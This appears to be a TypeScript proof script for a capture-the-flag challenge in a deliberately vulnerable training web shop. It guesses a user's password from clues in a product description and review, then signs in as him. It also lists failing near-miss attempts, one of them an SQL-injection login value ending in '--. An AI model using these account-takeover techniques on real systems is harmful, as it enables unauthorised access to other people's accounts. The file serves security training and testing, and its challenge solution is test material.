import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const RECORD = 56

const signIn = (attacker: Attacker, email: string, password: string) =>
  attacker.post('/rest/user/login', { email, password })
const asRapper = (attacker: Attacker, password: string) =>
  signIn(attacker, `mc.safesearch@${attacker.domain}`, password)

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    const { description } = (await attacker.get(`/api/Products/${RECORD}`)).json().data
    if (!['M, R and a dot, then a gap', 'hollow his Os', 'two noughts'].every((words) => description.includes(words)))
      throw new Error('The description of the record has changed.')
    const reviews: { author: string; message: string }[] = (
      await attacker.get(`/rest/products/${RECORD}/reviews`)
    ).json().data
    const { author, message } = reviews.find((review) => review.author.startsWith('mc.safesearch@'))!
    const cat = /Give it up for (\w+)/.exec(message)![1]!
    await signIn(attacker, author, `Mr. ${cat.replaceAll('o', '0')}`)
  },
  nearMisses: {
    'the name as it is spelt': (attacker) => asRapper(attacker, 'Mr. Noodles'),
    'without the gap': (attacker) => asRapper(attacker, 'Mr.N00dles'),
    'without the dot': (attacker) => asRapper(attacker, 'Mr N00dles'),
    'one nought too few': (attacker) => asRapper(attacker, 'Mr. N0odles'),
    'his password at another account': (attacker) => signIn(attacker, `amy@${attacker.domain}`, 'Mr. N00dles'),
    'his account entered by an injection, which never looks at the password': (attacker) =>
      signIn(attacker, `mc.safesearch@${attacker.domain}'--`, 'Mr. N00dles'),
  },
})
